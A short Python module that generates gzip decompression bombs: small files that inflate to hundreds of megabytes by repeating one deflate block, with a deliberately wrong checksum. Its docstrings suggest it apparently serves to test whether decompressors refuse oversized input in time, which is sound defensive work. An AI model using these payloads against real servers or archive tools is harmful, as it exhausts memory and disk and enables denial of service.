"""Gzip files that are small and inflate to hundreds of megabytes: one deflate block, repeated."""

from __future__ import annotations

import struct
import zlib

_HEADER = b"\x1f\x8b\x08\0\0\0\0\0\0\xff"
_BLOCK_BYTES = 1024 * 1024


def bomb(line: bytes, size_bytes: int) -> bytes:
    """A gzip file of about `size_bytes` that repeat `line`, right to its checksum's place but not in its checksum.

    Nobody who reads that far has refused it in time.
    """
    content = line * (_BLOCK_BYTES // len(line))
    deflater = zlib.compressobj(9, zlib.DEFLATED, -15)
    # A full flush ends at a whole byte and refers to nothing before it, so that it can be repeated.
    block = deflater.compress(content) + deflater.flush(zlib.Z_FULL_FLUSH)
    times = size_bytes // len(content)
    return _HEADER + block * times + b"\x03\0" + struct.pack("<II", 0, times * len(content) & 0xFFFFFFFF)
